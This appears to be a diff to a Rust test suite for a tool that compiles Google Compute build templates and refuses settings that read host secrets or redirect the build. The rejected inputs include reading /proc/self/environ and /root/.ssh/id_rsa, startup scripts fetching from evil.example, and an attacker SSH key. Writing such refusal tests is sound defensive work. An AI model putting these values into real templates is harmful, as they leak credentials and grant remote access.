@@ -73,9 +73,17 @@ fn the_host_adds_what_a_plugin_must_not_decide() {
         "disable_default_service_account = true",
         "scopes = [\"https://www.googleapis.com/auth/cloud-platform\"]",
     );
-    let source = source_of_google(&compile_google(&defiant, None, &[]).unwrap());
-    assert_eq!(source["disable_default_service_account"], true);
-    assert!(source.get("scopes").is_none());
+    assert_eq!(
+        compile_google(&defiant, None, &[]).unwrap_err().code(),
+        Code::TemplatePinned,
+        "scopes of the project's default account"
+    );
+    let more = google("  metadata = { team = \"x\", enable-oslogin = \"TRUE\" }");
+    let source = source_of_google(&compile_google(&more, None, &[]).unwrap());
+    assert_eq!(
+        source["metadata"],
+        json!({ "team": "x", "block-project-ssh-keys": "TRUE", "enable-oslogin": "FALSE" })
+    );
 
     let email = json!("vm@my-project.iam.gserviceaccount.com");
     let own = google("  service_account_email = \"vm@my-project.iam.gserviceaccount.com\"");
@@ -91,6 +99,9 @@ fn what_reads_the_host_or_redirects_packer_is_refused() {
     for line in [
         "metadata_files = { k = \"/proc/self/environ\" }",
         "metadata = { startup-script = \"curl evil\" }",
+        "metadata = { Startup-Script-URL = \"https://evil.example/x\" }",
+        "metadata = { ssh-keys = \"evil:ssh-ed25519 AAAA\" }",
+        "metadata = { \"serial-port-enable\" = \"TRUE\" }",
         "image_platform_key = \"/root/.ssh/id_rsa\"",
         "custom_endpoints = { compute = \"https://evil.example/\" }",
         "credentials_json = \"{}\"",
